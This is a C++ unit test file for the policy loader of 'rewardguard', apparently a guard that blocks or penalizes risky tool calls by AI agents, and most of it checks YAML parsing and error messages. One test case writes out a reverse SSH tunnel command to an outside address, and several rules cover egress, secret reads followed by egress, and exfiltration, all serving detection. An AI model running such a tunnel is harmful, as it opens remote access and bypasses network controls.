#include "rewardguard/policy/loader.h"

#include <cstdio>
#include <fstream>
#include <string>

#include "absl/status/status.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "rewardguard/core/capabilities.h"
#include "rewardguard/policy/internal/parser.h"

namespace rewardguard {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

constexpr char kHeader[] = "version: 1\nname: t\ndefault: block\n";

// The message of the InvalidArgument that loading `yaml` must produce.
std::string Error(const std::string& yaml) {
  absl::StatusOr<PolicyPtr> p = LoadPolicyText(yaml, "p.yaml");
  EXPECT_FALSE(p.ok()) << yaml;
  if (p.ok()) return "";
  EXPECT_EQ(p.status().code(), absl::StatusCode::kInvalidArgument);
  return std::string(p.status().message());
}

// Same, after the three required keys (which take lines 1-3).
std::string BodyError(const std::string& body) {
  return Error(kHeader + body);
}

PolicyPtr Load(const std::string& yaml) {
  absl::StatusOr<PolicyPtr> p = LoadPolicyText(yaml, "p.yaml");
  EXPECT_TRUE(p.ok()) << p.status().message();
  return p.ok() ? *p : nullptr;
}

TEST(Loader, LoadsMinimalPolicy) {
  PolicyPtr p = Load(std::string(kHeader) + "description: a test\n");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->name(), "t");
  EXPECT_EQ(p->description(), "a test");
  EXPECT_EQ(p->version(), 1);
  EXPECT_EQ(p->default_action(), Action::kBlock);
  EXPECT_EQ(p->default_penalty(), 0.0f);
  EXPECT_EQ(p->categories()[p->default_category()], "unknown");
  EXPECT_EQ(p->source_name(), "p.yaml");
  EXPECT_EQ(p->source_text(), std::string(kHeader) + "description: a test\n");
  EXPECT_TRUE(p->rules().empty());
  EXPECT_EQ(p->limits().max_shell_depth, 64);
}

TEST(Loader, LoadsFullPolicy) {
  PolicyPtr p = Load(R"(version: 1
name: full
default: penalize
default_penalty: 0.5
default_category: gpu_abuse
categories: [gpu_abuse, data]
capabilities:
  compute.mining.pool: compute.mining
tools:
  shell: {analyzer: shell, command: $.command}
  http_get: {capability: net.egress.http, url: $.url, port: "$.opts['p/x~']"}
  noop: {}
rules:
  - id: reverse-tunnel
    match: net.tunnel
    action: terminate
    penalty: 10
    category: network
    reason: "tunnels bypass ingress filtering"
  - id: egress
    match: net.egress
    when: {port: [443, "8000-8100"]}
    unless: {host: ["*.corp.example"]}
    action: block
budgets:
  - {id: egress-budget, match: net.egress, max_per_episode: 20, action: penalize, penalty: 0.1}
flows:
  - {id: exfiltration, after: fs.read.secret, then: net.egress, action: terminate, penalty: 10}
limits: {max_argument_bytes: 1000, max_shell_depth: 8, max_facts_per_call: 16}
tests:
  - {call: {tool: shell, arguments: {command: "ssh -R 9000:localhost:22 a@203.0.113.5"}}, expect: terminate, rules: [reverse-tunnel]}
  - {call: {tool: shell, arguments: "ls -l"}, expect: allow}
  - {call: {tool: x}, expect: block}
)");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->default_action(), Action::kPenalize);
  EXPECT_FLOAT_EQ(p->default_penalty(), 0.5f);
  EXPECT_EQ(p->categories()[p->default_category()], "gpu_abuse");
  ASSERT_EQ(p->categories().size(), BuiltinCategories().size() + 2);
  EXPECT_EQ(p->categories().back(), "data");

  ASSERT_EQ(p->tools().size(), 3u);
  const ToolSpec* shell = p->FindTool("shell");
  ASSERT_NE(shell, nullptr);
  EXPECT_EQ(shell->analyzer, Analyzer::kShell);
  EXPECT_EQ(shell->arguments.command, "/command");
  const ToolSpec* http = p->FindTool("http_get");
  ASSERT_NE(http, nullptr);
  EXPECT_EQ(http->analyzer, Analyzer::kNone);
  EXPECT_EQ(http->capability, "net.egress.http");
  EXPECT_EQ(http->arguments.url, "/url");
  EXPECT_EQ(http->arguments.port, "/opts/p~1x~0");
  EXPECT_EQ(p->FindTool("noop")->capability, "tool.call");
  EXPECT_EQ(p->FindTool("nope"), nullptr);

  ASSERT_EQ(p->rules().size(), 2u);
  const Rule& tunnel = p->rules()[0];
  EXPECT_EQ(tunnel.id, "reverse-tunnel");
  EXPECT_EQ(p->capability_name(tunnel.match), "net.tunnel");
  EXPECT_EQ(tunnel.action, Action::kTerminate);
  EXPECT_FLOAT_EQ(tunnel.penalty, 10.0f);
  EXPECT_EQ(p->categories()[tunnel.category], "network");
  EXPECT_EQ(tunnel.reason, "tunnels bypass ingress filtering");
  EXPECT_EQ(tunnel.position.line, 14);
  EXPECT_EQ(tunnel.position.column, 5);
  EXPECT_TRUE(tunnel.when.empty());
  EXPECT_FALSE(tunnel.unless.has_value());
  const Rule& egress = p->rules()[1];
  ASSERT_EQ(egress.when.ports.size(), 2u);
  EXPECT_EQ(egress.when.ports[1].lo, 8000);
  EXPECT_EQ(egress.when.ports[1].hi, 8100);
  ASSERT_TRUE(egress.unless.has_value());
  EXPECT_THAT(egress.unless->hosts, ElementsAre("*.corp.example"));
  EXPECT_EQ(egress.penalty, 0.0f);
  EXPECT_EQ(p->categories()[egress.category], "network");

  ASSERT_EQ(p->budgets().size(), 1u);
  EXPECT_EQ(p->budgets()[0].max_per_episode, 20);
  EXPECT_EQ(p->budgets()[0].action, Action::kPenalize);
  EXPECT_EQ(p->capability_name(p->budgets()[0].match), "net.egress");
  ASSERT_EQ(p->flows().size(), 1u);
  EXPECT_EQ(p->capability_name(p->flows()[0].after), "fs.read.secret");
  EXPECT_EQ(p->capability_name(p->flows()[0].then), "net.egress");
  EXPECT_EQ(p->categories()[p->flows()[0].category], "network");

  EXPECT_EQ(p->limits().max_argument_bytes, 1000);
  EXPECT_EQ(p->limits().max_shell_depth, 8);
  EXPECT_EQ(p->limits().max_facts_per_call, 16);

  ASSERT_EQ(p->tests().size(), 3u);
  EXPECT_EQ(p->tests()[0].tool, "shell");
  EXPECT_EQ(p->tests()[0].arguments,
            R"({"command":"ssh -R 9000:localhost:22 a@203.0.113.5"})");
  EXPECT_EQ(p->tests()[0].expect, Action::kTerminate);
  EXPECT_THAT(p->tests()[0].expect_rules, ElementsAre("reverse-tunnel"));
  EXPECT_EQ(p->tests()[0].position.line, 31);
  EXPECT_EQ(p->tests()[1].arguments, R"("ls -l")");
  EXPECT_TRUE(p->tests()[1].expect_rules.empty());
  EXPECT_EQ(p->tests()[2].arguments, "{}");
}

TEST(Loader, TestArgumentsBecomeJson) {
  PolicyPtr p = Load(std::string(kHeader) + R"(tests:
  - call:
      tool: t
      arguments:
        s: "a \"q\" \\ b"
        n: 42
        neg: -1.5e3
        plus: +7
        b: true
        f: False
        z: null
        e:
        quoted_num: "42"
        word: yes
        list: [1, "two", {x: [~]}]
        ctl: "tab\there\nnl\u0001"
    expect: allow
  - call: {tool: t, arguments: "say \"hi\"\n"}
    expect: allow
)");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->tests()[0].arguments,
            R"({"s":"a \"q\" \\ b","n":42,"neg":-1.5e3,"plus":7,"b":true,)"
            R"("f":false,"z":null,"e":null,"quoted_num":"42","word":"yes",)"
            R"("list":[1,"two",{"x":[null]}],"ctl":"tab\there\nnl\u0001"})");
  EXPECT_EQ(p->tests()[1].arguments, R"("say \"hi\"\n")");
}

TEST(Loader, ArgumentPaths) {
  using policy_internal::ArgumentPathToJsonPointer;
  EXPECT_EQ(ArgumentPathToJsonPointer("$.a.b"), "/a/b");
  EXPECT_EQ(ArgumentPathToJsonPointer("$.a[0]"), "/a/0");
  EXPECT_EQ(ArgumentPathToJsonPointer("$[3].x"), "/3/x");
  EXPECT_EQ(ArgumentPathToJsonPointer("$['a.b']"), "/a.b");
  EXPECT_EQ(ArgumentPathToJsonPointer("$[\"a/b~c\"]"), "/a~1b~0c");
  EXPECT_EQ(ArgumentPathToJsonPointer("$.a/b"), "/a~1b");
  for (const char* bad : {"$", "", "a.b", "$a", "$.", "$..a", "$.a[", "$.a[]",
                          "$.a[x]", "$.a[01]", "$.a]", "$['a]", "$.a b"}) {
    EXPECT_EQ(ArgumentPathToJsonPointer(bad), std::nullopt) << bad;
  }
}

// --- Errors: one test per kind, exact position and text. -------------------

TEST(LoaderErrors, YamlSyntax) {
  EXPECT_EQ(Error("version: 1\nrules: [a, b\nname: x\n"),
            "p.yaml:3:5: invalid yaml: end of sequence flow not found");
  EXPECT_EQ(Error("a: b: c\n"), "p.yaml:1:5: invalid yaml: illegal map value");
}

TEST(LoaderErrors, EmptyDocument) {
  EXPECT_EQ(Error(""),
            "p.yaml:1:1: empty policy; expected a mapping with `version`, "
            "`name` and `default`");
}

TEST(LoaderErrors, SeveralDocuments) {
  EXPECT_EQ(Error(std::string(kHeader) + "---\nversion: 1\n"),
            "p.yaml:5:1: expected a single yaml document, found another");
}

TEST(LoaderErrors, TopLevelNotAMapping) {
  EXPECT_EQ(Error("- version: 1\n"),
            "p.yaml:1:1: expected a mapping at the top level, got a list");
  EXPECT_EQ(Error("hello\n"),
            "p.yaml:1:1: expected a mapping at the top level, got `hello`");
}

TEST(LoaderErrors, MissingRequiredTopLevelKeys) {
  EXPECT_EQ(Error("name: t\ndefault: block\n"),
            "p.yaml:1:1: missing required key `version` in policy");
  EXPECT_EQ(Error("version: 1\ndefault: block\n"),
            "p.yaml:1:1: missing required key `name` in policy");
  EXPECT_EQ(Error("version: 1\nname: t\n"),
            "p.yaml:1:1: missing required key `default` in policy");
}

TEST(LoaderErrors, BadVersion) {
  EXPECT_EQ(Error("version: 2\nname: t\ndefault: block\n"),
            "p.yaml:1:10: unsupported version `2`; expected 1");
  EXPECT_EQ(Error("version: one\nname: t\ndefault: block\n"),
            "p.yaml:1:10: expected an integer for `version`, got `one`");
}

TEST(LoaderErrors, EmptyName) {
  EXPECT_EQ(Error("version: 1\nname: \"\"\ndefault: block\n"),
            "p.yaml:2:7: expected a non-empty string for `name`, got ``");
  EXPECT_EQ(Error("version: 1\nname:\ndefault: block\n"),
            "p.yaml:2:1: expected a non-empty string for `name`, got an "
            "empty value");
}

TEST(LoaderErrors, UnknownTopLevelKey) {
  EXPECT_EQ(BodyError("rulez: []\n"),
            "p.yaml:4:1: unknown key `rulez` in policy; expected one of: "
            "version, name, description, default, default_penalty, "
            "default_category, categories, capabilities, tools, harness, rules, "
            "budgets, flows, limits, tests");
}

TEST(LoaderErrors, DuplicateKey) {
  EXPECT_EQ(BodyError("name: u\n"),
            "p.yaml:4:1: duplicate key `name` in policy; first defined at 2:1");
  EXPECT_EQ(BodyError("rules:\n  - {id: a, match: net, action: block, id: b}\n"),
            "p.yaml:5:40: duplicate key `id` in rule; first defined at 5:6");
  EXPECT_EQ(BodyError("tools:\n  a: {}\n  a: {}\n"),
            "p.yaml:6:3: duplicate key `a` in `tools`; first defined at 5:3");
  EXPECT_EQ(BodyError("tests:\n  - call: {tool: t, arguments: {x: 1, x: 2}}\n"
                      "    expect: allow\n"),
            "p.yaml:5:39: duplicate key `x` in test arguments; first defined "
            "at 5:33");
}

TEST(LoaderErrors, UnknownKeyInRule) {
  EXPECT_EQ(BodyError("rules:\n  - id: r\n    matc: net\n"),
            "p.yaml:6:5: unknown key `matc` in rule; expected one of: id, "
            "match, when, unless, action, penalty, category, reason");
}

TEST(LoaderErrors, UnknownKeyInBudgetAndFlow) {
  EXPECT_EQ(BodyError("budgets:\n  - {id: b, max: 3}\n"),
            "p.yaml:5:13: unknown key `max` in budget; expected one of: id, "
            "match, when, max_per_episode, action, penalty, category, reason");
  EXPECT_EQ(BodyError("flows:\n  - {id: f, before: fs}\n"),
            "p.yaml:5:13: unknown key `before` in flow; expected one of: id, "
            "after, then, action, penalty, category, reason");
}

TEST(LoaderErrors, UnknownKeyInCondition) {
  EXPECT_EQ(BodyError("rules:\n  - id: r\n    match: net\n    action: block\n"
                      "    when: {hosts: [a]}\n"),
            "p.yaml:8:12: unknown key `hosts` in condition `when`; expected "
            "one of: host, cidr, port, path, program, tool, regex");
}

TEST(LoaderErrors, UnknownAttributeInRegex) {
  EXPECT_EQ(BodyError("rules:\n  - id: r\n    match: net\n    action: block\n"
                      "    unless: {regex: {uri: x}}\n"),
            "p.yaml:8:22: unknown key `uri` in `regex`; expected one of: "
            "program, host, port, path, url, command");
}

TEST(LoaderErrors, UnknownKeyInToolSpec) {
  EXPECT_EQ(BodyError("tools:\n  shell: {analyser: shell}\n"),
            "p.yaml:5:11: unknown key `analyser` in tool spec `shell`; "
            "expected one of: capability, analyzer, command, url, host, port, "
            "path, program, content");
}

TEST(LoaderErrors, ToolSpecValues) {
  EXPECT_EQ(BodyError("tools:\n  shell: {analyzer: bash}\n"),
            "p.yaml:5:21: unknown analyzer `bash`; expected one of: none, "
            "shell");
  EXPECT_EQ(BodyError("tools:\n  shell: {analyzer: shell}\n"),
            "p.yaml:5:10: missing required key `command` in tool spec "
            "`shell`; `analyzer: shell` analyzes the argument it names");
  EXPECT_EQ(BodyError("tools:\n  shell: {analyzer: shell, command: $.c, "
                      "capability: shell.exec}\n"),
            "p.yaml:5:54: unexpected `capability` in tool spec `shell`; with "
            "`analyzer: shell` the capabilities come from the command");
  EXPECT_EQ(BodyError("tools:\n  get: {capability: net.http}\n"),
            "p.yaml:5:21: unknown capability `net.http` for `capability`; "
            "expected a capability of the built-in taxonomy or one declared "
            "under `capabilities:`");
  EXPECT_EQ(BodyError("tools: [a]\n"),
            "p.yaml:4:8: expected a mapping of `name: spec` for `tools`, got "
            "a list");
}

TEST(LoaderErrors, BadArgumentPath) {
  EXPECT_EQ(BodyError("tools:\n  get: {url: url}\n"),
            "p.yaml:5:14: invalid argument path `url` for `url`; expected `$` "
            "followed by `.key` or `[index]` segments, e.g. `$.args[0]`");
  EXPECT_EQ(BodyError("tools:\n  get:\n    path: $.a[x]\n"),
            "p.yaml:6:11: invalid argument path `$.a[x]` for `path`; expected "
            "`$` followed by `.key` or `[index]` segments, e.g. `$.args[0]`");
}

TEST(LoaderErrors, WrongTypes) {
  EXPECT_EQ(BodyError("rules: {id: r}\n"),
            "p.yaml:4:8: expected a list for `rules`, got a mapping");
  EXPECT_EQ(BodyError("rules:\n  - r1\n"),
            "p.yaml:5:5: expected a mapping for rule, got `r1`");
  EXPECT_EQ(BodyError("rules:\n  - {id: r, match: net, action: block, "
                      "penalty: \"abc\"}\n"),
            "p.yaml:5:49: expected a finite number >= 0 for `penalty`, got "
            "`abc`");
  EXPECT_EQ(BodyError("default_penalty: [1]\n"),
            "p.yaml:4:18: expected a finite number >= 0 for "
            "`default_penalty`, got a list");
  EXPECT_EQ(BodyError("rules:\n  - {id: r, match: [net], action: block}\n"),
            "p.yaml:5:20: expected a non-empty string for `match`, got a "
            "list");
  EXPECT_EQ(BodyError("budgets:\n  - {id: b, match: net, action: block, "
                      "max_per_episode: 1.5}\n"),
            "p.yaml:5:57: expected an integer >= 0 for `max_per_episode`, got "
            "`1.5`");
  EXPECT_EQ(BodyError("rules:\n  - {id: r, match: net, action: block, "
                      "when: [host]}\n"),
            "p.yaml:5:46: expected a mapping for condition `when`, got a "
            "list");
}

TEST(LoaderErrors, MissingRuleKeys) {
  EXPECT_EQ(BodyError("rules:\n  - {match: net, action: block}\n"),
            "p.yaml:5:5: missing required key `id` in rule");
  EXPECT_EQ(BodyError("rules:\n  - {id: r, action: block}\n"),
            "p.yaml:5:5: missing required key `match` in rule");
  EXPECT_EQ(BodyError("rules:\n  - id: r\n    match: net\n"),
            "p.yaml:5:5: missing required key `action` in rule");
  EXPECT_EQ(BodyError("budgets:\n  - {id: b, match: net, action: block}\n"),
            "p.yaml:5:5: missing required key `max_per_episode` in budget");
  EXPECT_EQ(BodyError("flows:\n  - {id: f, after: fs, action: block}\n"),
            "p.yaml:5:5: missing required key `then` in flow");
}

TEST(LoaderErrors, UnknownAction) {
  EXPECT_EQ(BodyError("rules:\n  - {id: r, match: net, action: deny}\n"),
            "p.yaml:5:33: unknown action `deny` for `action`; expected one "
            "of: allow, warn, penalize, block, terminate");
  EXPECT_EQ(Error("version: 1\nname: t\ndefault: Block\n"),
            "p.yaml:3:10: unknown action `Block` for `default`; expected one "
            "of: allow, warn, penalize, block, terminate");
}

TEST(LoaderErrors, UnknownCapability) {
  constexpr char kHint[] =
      "; expected a capability of the built-in taxonomy or one declared "
      "under `capabilities:`";
  EXPECT_EQ(BodyError("rules:\n  - {id: r, match: net.egres, action: block}\n"),
            std::string("p.yaml:5:20: unknown capability `net.egres` for "
                        "`match`") + kHint);
  EXPECT_EQ(BodyError("flows:\n  - {id: f, after: fs.secret, then: net, "
                      "action: block}\n"),
            std::string("p.yaml:5:20: unknown capability `fs.secret` for "
                        "`after`") + kHint);
  EXPECT_EQ(BodyError("flows:\n  - {id: f, after: fs, then: nett, "
                      "action: block}\n"),
            std::string("p.yaml:5:30: unknown capability `nett` for "
                        "`then`") + kHint);
  EXPECT_EQ(BodyError("budgets:\n  - {id: b, match: gpu, action: block, "
                      "max_per_episode: 1}\n"),
            std::string("p.yaml:5:20: unknown capability `gpu` for `match`") +
                kHint);
}

TEST(LoaderErrors, DuplicateId) {
  EXPECT_EQ(BodyError("rules:\n  - {id: x, match: net, action: block}\n"
                      "flows:\n  - {id: x, after: fs, then: net, action: "
                      "block}\n"),
            "p.yaml:7:10: duplicate id `x`; first defined at 5:10");
}

TEST(LoaderErrors, InvalidCidr) {
  EXPECT_EQ(BodyError("rules:\n  - id: r\n    match: net\n    action: block\n"
                      "    when: {cidr: [10.0.0.0/8, 10.0.0.0/33]}\n"),
            "p.yaml:8:31: invalid cidr `10.0.0.0/33`; expected an ip address "
            "or `address/prefix`, e.g. `10.0.0.0/8`");
}

TEST(LoaderErrors, InvalidPort) {
  const std::string rule =
      "rules:\n  - id: r\n    match: net\n    action: block\n    when: ";
  EXPECT_EQ(BodyError(rule + "{port: 70000}\n"),
            "p.yaml:8:18: invalid port `70000`; expected a port 0-65535 or a "
            "range `lo-hi` with lo <= hi");
  EXPECT_EQ(BodyError(rule + "{port: [22, \"9000-8000\"]}\n"),
            "p.yaml:8:23: invalid port `9000-8000`; expected a port 0-65535 "
            "or a range `lo-hi` with lo <= hi");
  EXPECT_EQ(BodyError(rule + "{port: [ssh]}\n"),
            "p.yaml:8:19: invalid port `ssh`; expected a port 0-65535 or a "
            "range `lo-hi` with lo <= hi");
  EXPECT_EQ(BodyError(rule + "{port: []}\n"),
            "p.yaml:8:18: expected at least one value for `port`, got an "
            "empty list");
}

TEST(LoaderErrors, InvalidRegex) {
  std::string message =
      BodyError("rules:\n  - id: r\n    match: net\n    action: block\n"
                "    when: {regex: {url: \"^(https\"}}\n");
  EXPECT_EQ(message,
            "p.yaml:8:25: invalid regex `^(https` for `url`: missing ): "
            "^(https");
}

TEST(LoaderErrors, NegativePenalty) {
  EXPECT_EQ(BodyError("rules:\n  - {id: r, match: net, action: block, "
                      "penalty: -1}\n"),
            "p.yaml:5:49: expected a finite number >= 0 for `penalty`, got "
            "`-1`");
  EXPECT_EQ(BodyError("default_penalty: .inf\n"),
            "p.yaml:4:18: expected a finite number >= 0 for "
            "`default_penalty`, got `.inf`");
  EXPECT_EQ(BodyError("default_penalty: 1e39\n"),
            "p.yaml:4:18: expected a finite number >= 0 for "
            "`default_penalty`, got `1e39`");
}

TEST(LoaderErrors, UnknownCategory) {
  EXPECT_EQ(BodyError("rules:\n  - {id: r, match: net, action: block, "
                      "category: net}\n"),
            "p.yaml:5:50: unknown category `net`; expected one of: network, "
            "compute, filesystem, process, privilege, exfiltration, evasion, "
            "unknown");
  EXPECT_EQ(BodyError("categories: [gpu]\ndefault_category: gpus\n"),
            "p.yaml:5:19: unknown category `gpus`; expected one of: network, "
            "compute, filesystem, process, privilege, exfiltration, evasion, "
            "unknown, gpu");
}

TEST(LoaderErrors, BadCategoryNames) {
  EXPECT_EQ(BodyError("categories: [GPU]\n"),
            "p.yaml:4:14: invalid category name `GPU`; expected lowercase "
            "letters, digits and `_`");
  EXPECT_EQ(BodyError("categories: [network]\n"),
            "p.yaml:4:14: duplicate category `network`; it is already "
            "defined");
}

TEST(LoaderErrors, TooManyCategories) {
  EXPECT_EQ(BodyError("categories: [c1, c2, c3, c4, c5, c6, c7, c8, c9]\n"),
            "p.yaml:4:46: too many categories: 17; expected at most 16 "
            "including the 8 built-in ones");
}

TEST(LoaderErrors, InvalidCapabilityName) {
  EXPECT_EQ(BodyError("capabilities:\n  Compute.X: compute\n"),
            "p.yaml:5:3: invalid capability name `Compute.X`; expected "
            "lowercase segments of [a-z0-9_] separated by single dots");
  EXPECT_EQ(BodyError("capabilities:\n  compute..x: compute\n"),
            "p.yaml:5:3: invalid capability name `compute..x`; expected "
            "lowercase segments of [a-z0-9_] separated by single dots");
}

TEST(LoaderErrors, CapabilityAlreadyExists) {
  EXPECT_EQ(BodyError("capabilities:\n  net.egress: net\n"),
            "p.yaml:5:3: capability `net.egress` already exists; declare a "
            "new name");
}

TEST(LoaderErrors, CapabilityParentUnknown) {
  EXPECT_EQ(BodyError("capabilities:\n  compute.x: computer\n"),
            "p.yaml:5:14: unknown parent capability `computer` for "
            "`compute.x`; expected a capability of the built-in taxonomy or "
            "one declared under `capabilities:`");
}

TEST(LoaderErrors, CapabilityCycle) {
  EXPECT_EQ(BodyError("capabilities:\n  ok.a: net\n  x.a: x.b\n  x.b: x.c\n"
                      "  x.c: x.a\n"),
            "p.yaml:6:3: capability cycle: `x.a` -> `x.b` -> `x.c` -> `x.a`; "
            "every capability must descend from a built-in one");
  EXPECT_EQ(BodyError("capabilities:\n  self: self\n"),
            "p.yaml:5:3: capability cycle: `self` -> `self`; every capability "
            "must descend from a built-in one");
}

TEST(LoaderErrors, TooManyCapabilities) {
  const int room = kMaxCapabilities - static_cast<int>(BuiltinCapabilities().size());
  std::string body = "capabilities:\n";
  for (int i = 0; i < room; ++i) body += "  x.c" + std::to_string(i) + ": net\n";
  absl::StatusOr<PolicyPtr> full = LoadPolicyText(kHeader + body, "p.yaml");
  ASSERT_TRUE(full.ok()) << full.status().message();
  EXPECT_EQ((*full)->num_capabilities(), kMaxCapabilities);
  body += "  x.last: net\n";
  EXPECT_EQ(BodyError(body),
            "p.yaml:" + std::to_string(5 + room) +
                ":3: too many capabilities; expected at most 1024 including "
                "the " + std::to_string(BuiltinCapabilities().size()) +
                " built-in ones");
}

TEST(LoaderErrors, TestWithoutExpect) {
  EXPECT_EQ(BodyError("tests:\n  - call: {tool: shell}\n"),
            "p.yaml:5:5: missing required key `expect` in test");
  EXPECT_EQ(BodyError("tests:\n  - expect: block\n"),
            "p.yaml:5:5: missing required key `call` in test");
  EXPECT_EQ(BodyError("tests:\n  - {call: {tool: t, args: {}}, expect: allow}\n"),
            "p.yaml:5:22: unknown key `args` in test `call`; expected one of: "
            "tool, arguments");
  EXPECT_EQ(BodyError("tests:\n  - {call: {tool: t, arguments: [1]}, expect: "
                      "allow}\n"),
            "p.yaml:5:33: expected a mapping or a string for `arguments`, got "
            "a list");
  EXPECT_EQ(BodyError("tests:\n  - {call: {tool: t}, expect: allow, rules: "
                      "[nope]}\n"),
            "p.yaml:5:46: unknown id `nope` in test `rules`; expected the id "
            "of a rule, budget or flow");
}

TEST(LoaderErrors, LimitsNonPositive) {
  EXPECT_EQ(BodyError("limits: {max_shell_depth: 0}\n"),
            "p.yaml:4:27: expected a positive integer at most 256 for "
            "`max_shell_depth`, got `0`");
  EXPECT_EQ(BodyError("limits:\n  max_facts_per_call: 3000000000\n"),
            "p.yaml:5:23: expected a positive integer for "
            "`max_facts_per_call`, got `3000000000`");
  EXPECT_EQ(BodyError("limits: {max_bytes: 1}\n"),
            "p.yaml:4:10: unknown key `max_bytes` in `limits`; expected one "
            "of: max_argument_bytes, max_shell_depth, max_facts_per_call, "
            "max_remembered_bytes");
}

TEST(LoaderErrors, NonStringKey) {
  EXPECT_EQ(BodyError("rules:\n  - {[a]: 1}\n"),
            "p.yaml:5:6: expected a string key in rule, got a list");
}

// --- Files and built-ins. --------------------------------------------------

TEST(LoadPolicyFile, MissingFileIsNotFound) {
  absl::StatusOr<PolicyPtr> p = LoadPolicyFile("/nonexistent/dir/p.yaml");
  ASSERT_FALSE(p.ok());
  EXPECT_EQ(p.status().code(), absl::StatusCode::kNotFound);
  EXPECT_EQ(p.status().message(),
            "policy file `/nonexistent/dir/p.yaml` not found");
}

TEST(LoadPolicyFile, ErrorsNameTheFile) {
  std::string path = ::testing::TempDir() + "/rewardguard_policy_test.yaml";
  {
    std::ofstream out(path);
    out << kHeader << "rules: 3\n";
  }
  absl::StatusOr<PolicyPtr> p = LoadPolicyFile(path);
  ASSERT_FALSE(p.ok());
  EXPECT_EQ(p.status().message(),
            path + ":4:8: expected a list for `rules`, got `3`");
  {
    std::ofstream out(path);
    out << kHeader;
  }
  p = LoadPolicy(path);
  ASSERT_TRUE(p.ok()) << p.status().message();
  EXPECT_EQ((*p)->source_name(), path);
  std::remove(path.c_str());
}

TEST(LoadBuiltinPolicy, CodingSandbox) {
  EXPECT_THAT(BuiltinPolicyNames(), ::testing::Contains("coding-sandbox"));
  absl::StatusOr<PolicyPtr> p = LoadBuiltinPolicy("coding-sandbox");
  ASSERT_TRUE(p.ok()) << p.status().message();
  EXPECT_EQ((*p)->source_name(), "<builtin:coding-sandbox>");
  EXPECT_EQ((*p)->name(), "coding-sandbox");
  absl::StatusOr<PolicyPtr> q = LoadPolicy("coding-sandbox");
  ASSERT_TRUE(q.ok()) << q.status().message();
  EXPECT_EQ((*q)->source_name(), "<builtin:coding-sandbox>");
}

TEST(LoadBuiltinPolicy, UnknownNameListsBuiltins) {
  absl::StatusOr<PolicyPtr> p = LoadBuiltinPolicy("coding_sandbox");
  ASSERT_FALSE(p.ok());
  EXPECT_EQ(p.status().code(), absl::StatusCode::kNotFound);
  EXPECT_THAT(std::string(p.status().message()),
              HasSubstr("unknown built-in policy `coding_sandbox`; expected "
                        "one of: "));
  EXPECT_THAT(std::string(p.status().message()), HasSubstr("coding-sandbox"));
  EXPECT_FALSE(LoadBuiltinPolicy("signatures/x").ok());
}

TEST(Loader, HarnessCommandsReachEveryShellTool) {
  PolicyPtr p = Load(std::string(kHeader) +
                     "tools:\n"
                     "  shell: {analyzer: shell, command: $.command}\n"
                     "  read_file: {capability: fs.read, path: $.path}\n"
                     "harness:\n"
                     "  open: {capability: fs.read, path: 1}\n"
                     "  edit: {capability: fs.write, until: end_of_edit}\n");
  ASSERT_NE(p, nullptr);
  const ToolSpec* shell = p->FindTool("shell");
  ASSERT_NE(shell, nullptr);
  ASSERT_NE(shell->harness, nullptr);
  ASSERT_EQ(shell->harness->size(), 2u);
  EXPECT_EQ((*shell->harness)[0].name, "open");
  EXPECT_EQ((*shell->harness)[0].path_argument, 1);
  EXPECT_EQ((*shell->harness)[1].until, "end_of_edit");
  EXPECT_EQ(p->FindTool("read_file")->harness, nullptr);
}

TEST(LoaderErrors, HarnessCommands) {
  EXPECT_THAT(BodyError("harness:\n  open: {capability: fs.nope}\n"),
              HasSubstr("p.yaml:5:22: unknown capability `fs.nope` for `capability`"));
  EXPECT_THAT(BodyError("harness:\n  open: {path: 1}\n"),
              HasSubstr("missing required key `capability`"));
  EXPECT_THAT(BodyError("harness:\n  open: {capability: fs.read, path: 0}\n"),
              HasSubstr("1-based position"));
  EXPECT_THAT(BodyError("harness:\n  open: {capability: fs.read, argv: 1}\n"),
              HasSubstr("argv"));
  EXPECT_THAT(BodyError("harness: [open]\n"), HasSubstr("expected a mapping of `name: spec` for `harness`"));
}

}  // namespace
}  // namespace rewardguard
